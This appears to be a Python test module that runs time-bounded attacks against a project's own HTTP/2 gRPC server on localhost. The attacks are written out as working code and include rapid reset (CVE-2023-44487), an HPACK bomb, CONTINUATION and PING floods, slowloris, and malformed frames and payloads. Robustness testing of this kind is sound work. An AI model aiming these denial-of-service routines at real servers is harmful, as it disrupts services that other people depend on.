"""The attacks, each from raw HTTP/2 frames or a gRPC client, bounded in time.

Sizes come in two forms: the fast one (``make test``) and the issue's full one with
``EPP_ADVERSARIAL_FULL=1`` (e.g. 300 streams x 8 MB instead of 40 x 2 MB). Every attack returns once it
has sent what it meant to or the picker stopped reading / closed the connection; none waits for more
than a few seconds.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import socket
import struct
from collections.abc import Awaitable, Callable

import grpc
import hpack
import orjson
from envoy.service.ext_proc.v3.external_processor_pb2 import ProcessingRequest
from harness import request_messages

from epp.server.h2 import frames as f

__all__ = ["ATTACKS", "FULL"]

FULL = os.environ.get("EPP_ADVERSARIAL_FULL") == "1"
GRPC_HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/envoy.service.ext_proc.v3.ExternalProcessor/Process"),
    (":authority", "epp"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def scale(fast: int, full: int) -> int:
    return full if FULL else fast


def grpc_frame(payload: bytes, compressed: bool = False, length: int | None = None) -> bytes:
    n = len(payload) if length is None else length
    return bytes([int(compressed)]) + n.to_bytes(4, "big") + payload


class Raw:
    """One raw HTTP/2 client connection."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, read: bool) -> None:
        self.reader, self.writer = reader, writer
        self.encoder = hpack.Encoder()
        self.received = 0
        self.eof = asyncio.Event()
        self._task = asyncio.create_task(self._read()) if read else None

    @classmethod
    async def open(cls, port: int, *, handshake: bool = True, read: bool = True, rcvbuf: int = 0) -> Raw:
        sock = socket.socket()
        if rcvbuf:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.setblocking(False)
        await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port))
        reader, writer = await asyncio.open_connection(sock=sock)
        raw = cls(reader, writer, read)
        if handshake:
            await raw.send(f.PREFACE + f.settings({}) + f.frame(f.SETTINGS, f.ACK, 0))
        return raw

    async def _read(self) -> None:
        with contextlib.suppress(OSError):
            while chunk := await self.reader.read(1 << 16):
                self.received += len(chunk)
        self.eof.set()

    def headers(self, sid: int, flags: int = f.END_HEADERS) -> bytes:
        return f.frame(f.HEADERS, flags, sid, self.encoder.encode(GRPC_HEADERS))

    async def send(self, data: bytes, timeout: float = 2.0) -> bool:
        """Write ``data``; False when the picker did not take it within ``timeout`` or closed."""
        if self.writer.is_closing():
            return False
        self.writer.write(data)
        try:
            await asyncio.wait_for(self.writer.drain(), timeout)
        except (TimeoutError, OSError):
            return False
        return True

    async def send_many(self, chunks: list[bytes], timeout: float = 5.0) -> None:
        """Send ``chunks`` in order until done, the picker closes, or ``timeout`` passes."""
        loop = asyncio.get_running_loop()
        deadline = loop.time() + timeout
        for chunk in chunks:
            left = deadline - loop.time()
            if left <= 0 or not await self.send(chunk, left):
                return

    async def close(self) -> None:
        if self._task is not None:
            self._task.cancel()
        self.writer.close()
        with contextlib.suppress(OSError):
            await self.writer.wait_closed()


def _batches(frames: list[bytes], per: int = 2000) -> list[bytes]:
    return [b"".join(frames[i : i + per]) for i in range(0, len(frames), per)]


# -- attacks of the table ---------------------------------------------------------------------


async def big_messages(port: int) -> None:
    """Many streams, each starting a 16 MB gRPC message and sending part of it."""
    raw = await Raw.open(port)
    streams, part = scale(30, 300), scale(1, 8) << 20
    chunk = b"\x00" * 16384
    prefix = grpc_frame(b"", length=16 << 20)
    start = [raw.headers(2 * i + 1) + f.frame(f.DATA, 0, 2 * i + 1, prefix) for i in range(streams)]
    await raw.send_many(start)
    body = [f.frame(f.DATA, 0, 2 * i + 1, chunk) for _ in range(part // len(chunk)) for i in range(streams)]
    await raw.send_many(_batches(body, 64), timeout=scale(4, 20))
    await raw.close()


async def open_streams(port: int) -> None:
    """Streams opened and never finished."""
    raw = await Raw.open(port)
    frames = [raw.headers(2 * i + 1) for i in range(scale(10_000, 100_000))]
    await raw.send_many(_batches(frames), timeout=scale(5, 30))
    await raw.close()


async def ping_flood_never_reading(port: int) -> None:
    """PINGs from a client that never reads the ACKs."""
    raw = await Raw.open(port, read=False, rcvbuf=4096)
    ping = f.frame(f.PING, 0, 0, b"12345678")
    await raw.send_many([ping * 5000] * (scale(100_000, 2_000_000) // 5000), timeout=scale(3, 30))
    await raw.close()


async def rapid_reset(port: int) -> None:
    """HEADERS + RST_STREAM pairs (CVE-2023-44487)."""
    raw = await Raw.open(port)
    cancel = f.ErrorCode.CANCEL
    pairs = [raw.headers(2 * i + 1) + f.rst_stream(2 * i + 1, cancel) for i in range(scale(20_000, 400_000))]
    await raw.send_many(_batches(pairs), timeout=scale(5, 30))
    await raw.close()


# -- protocol violations ------------------------------------------------------------------------------


async def garbage_preface(port: int) -> None:
    raw = await Raw.open(port, handshake=False)
    await raw.send(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" + os.urandom(4096))
    await raw.close()


async def frames_before_settings(port: int) -> None:
    raw = await Raw.open(port, handshake=False)
    await raw.send(f.PREFACE + f.frame(f.PING, 0, 0, b"12345678") + raw.headers(1))
    await raw.close()


async def oversized_frames(port: int) -> None:
    raw = await Raw.open(port)
    await raw.send(raw.headers(1) + struct.pack(">BHBBI", 0xFF, 0xFFFF, f.DATA, 0, 1) + b"\x00" * (1 << 20))
    await raw.close()


async def hpack_bomb(port: int) -> None:
    """One 4 KB header indexed once, then referenced thousands of times (decoded: tens of MB)."""
    raw = await Raw.open(port)
    name, value = b"x-bomb", b"a" * 4000
    literal = b"\x40" + bytes([len(name)]) + name + b"\x7f" + _hpack_int(len(value) - 127) + value
    refs = b"\xbe" * 10000  # dynamic table index 62: the bomb (the block stays under 16 KiB)
    block = raw.encoder.encode(GRPC_HEADERS) + literal + refs
    frames = [f.frame(f.HEADERS, 0, 1, block[:16384])]
    frames += [f.frame(f.CONTINUATION, 0, 1, block[i : i + 16384]) for i in range(16384, len(block), 16384)]
    frames[-1] = frames[-1][:4] + bytes([frames[-1][4] | f.END_HEADERS]) + frames[-1][5:]
    await raw.send_many(frames)
    await raw.close()


def _hpack_int(n: int) -> bytes:
    out = bytearray()
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


async def continuation_flood(port: int) -> None:
    raw = await Raw.open(port)
    frames = [f.frame(f.HEADERS, 0, 1, raw.encoder.encode(GRPC_HEADERS))]
    frames += [f.frame(f.CONTINUATION, 0, 1, b"\x00" * 16384)] * scale(600, 6000)  # 10 MB / 100 MB
    await raw.send_many(_batches(frames, 64))
    await raw.close()


async def window_update_overflow_and_zero(port: int) -> None:
    for data in (
        f.window_update(0, 2**31 - 1) + f.window_update(0, 2**31 - 1),
        f.window_update(0, 0),
        f.window_update(1, 0),
    ):
        raw = await Raw.open(port)
        await raw.send(raw.headers(1) + data)
        await raw.close()
    raw = await Raw.open(port)
    await raw.send(raw.headers(1) + f.window_update(1, 2**31 - 1) + f.window_update(1, 2**31 - 1))
    await raw.close()


async def even_and_backwards_stream_ids(port: int) -> None:
    raw = await Raw.open(port)
    await raw.send(raw.headers(2))
    await raw.close()
    raw = await Raw.open(port)
    await raw.send(raw.headers(5) + raw.headers(3) + raw.headers(1))
    await raw.close()


async def data_on_closed_streams(port: int) -> None:
    raw = await Raw.open(port)
    await raw.send(raw.headers(1) + f.rst_stream(1, f.ErrorCode.CANCEL))
    junk = [f.frame(f.DATA, 0, 1, b"\x00" * 16384) for _ in range(scale(300, 3000))]  # 5 MB / 50 MB
    await raw.send_many(_batches(junk, 64))
    await raw.send(f.frame(f.DATA, 0, 99, b"x"))  # an idle stream
    await raw.close()


async def slowloris(port: int) -> None:
    """Connections that send their preface one byte at a time."""
    raws = [await Raw.open(port, handshake=False) for _ in range(scale(50, 200))]
    for i in range(scale(10, 40)):
        for raw in raws:
            await raw.send(f.PREFACE[i : i + 1])
        await asyncio.sleep(0.1)
    await asyncio.gather(*(raw.close() for raw in raws))


async def idle_connections(port: int) -> None:
    raws = [await Raw.open(port) for _ in range(scale(300, 1000))]
    await asyncio.sleep(scale(1, 5))
    await asyncio.gather(*(raw.close() for raw in raws))


# -- bad gRPC messages and ext_proc content (a gRPC client) -------------------------------------------


async def _grpc_exchange(port: int, messages: list[bytes]) -> None:
    """Send pre-serialized messages on one call (bypassing the client's serializer) and read the end."""
    options = [("grpc.max_send_message_length", -1)]
    async with grpc.aio.insecure_channel(f"127.0.0.1:{port}", options=options) as ch:
        call = ch.stream_stream(
            "/envoy.service.ext_proc.v3.ExternalProcessor/Process",
            request_serializer=lambda b: b,
            response_deserializer=lambda b: b,
        )(iter(messages), timeout=10)
        with contextlib.suppress(grpc.aio.AioRpcError):
            async for _ in call:
                pass


def _ser(msgs: list[ProcessingRequest]) -> list[bytes]:
    return [m.SerializeToString() for m in msgs]


async def garbage_protobuf(port: int) -> None:
    await _grpc_exchange(port, [os.urandom(300), b"\xff\xff\xff\xff"])


async def compressed_flag(port: int) -> None:
    raw = await Raw.open(port)
    msg = request_messages()[0].SerializeToString()
    await raw.send(raw.headers(1) + f.frame(f.DATA, 0, 1, grpc_frame(msg, compressed=True)))
    await raw.close()


async def lying_length_prefix(port: int) -> None:
    raw = await Raw.open(port)
    msg = request_messages()[0].SerializeToString()
    await raw.send(raw.headers(1) + f.frame(f.DATA, f.END_STREAM, 1, grpc_frame(msg, length=len(msg) + 1000)))
    await raw.send(raw.headers(3) + f.frame(f.DATA, 0, 3, grpc_frame(msg, length=len(msg) - 7)))
    await raw.close()


async def body_before_headers(port: int) -> None:
    await _grpc_exchange(port, _ser(request_messages()[1:]))


async def oversized_body(port: int) -> None:
    body = orjson.dumps({"model": "m1", "prompt": "x" * (scale(17, 40) << 20)})
    await _grpc_exchange(port, _ser(request_messages(body)[:2]))


async def invalid_json(port: int) -> None:
    await _grpc_exchange(port, _ser(request_messages(b'{"model": "m1", "prompt": ')[:2]))


async def deep_json(port: int) -> None:
    await _grpc_exchange(port, _ser(request_messages(b"[" * 100_000 + b"]" * 100_000)[:2]))


async def invalid_utf8(port: int) -> None:
    await _grpc_exchange(port, _ser(request_messages(b'{"model": "m\xff\xfe1", "prompt": "\xc3\x28"}')[:2]))


ATTACKS: dict[str, Callable[[int], Awaitable[None]]] = {
    "garbage-preface": garbage_preface,
    "frames-before-settings": frames_before_settings,
    "oversized-frames": oversized_frames,
    "hpack-bomb": hpack_bomb,
    "continuation-flood": continuation_flood,
    "window-update-overflow-and-zero": window_update_overflow_and_zero,
    "even-and-backwards-stream-ids": even_and_backwards_stream_ids,
    "data-on-closed-streams": data_on_closed_streams,
    "slowloris": slowloris,
    "idle-connections": idle_connections,
    "garbage-protobuf": garbage_protobuf,
    "compressed-flag": compressed_flag,
    "lying-length-prefix": lying_length_prefix,
    "body-before-headers": body_before_headers,
    "oversized-body": oversized_body,
    "invalid-json": invalid_json,
    "deep-json": deep_json,
    "invalid-utf8": invalid_utf8,
    # the table last: on grpcio their effects outlast the attack
    "big-messages": big_messages,
    "open-streams": open_streams,
    "ping-flood-never-reading": ping_flood_never_reading,
    "rapid-reset": rapid_reset,
}
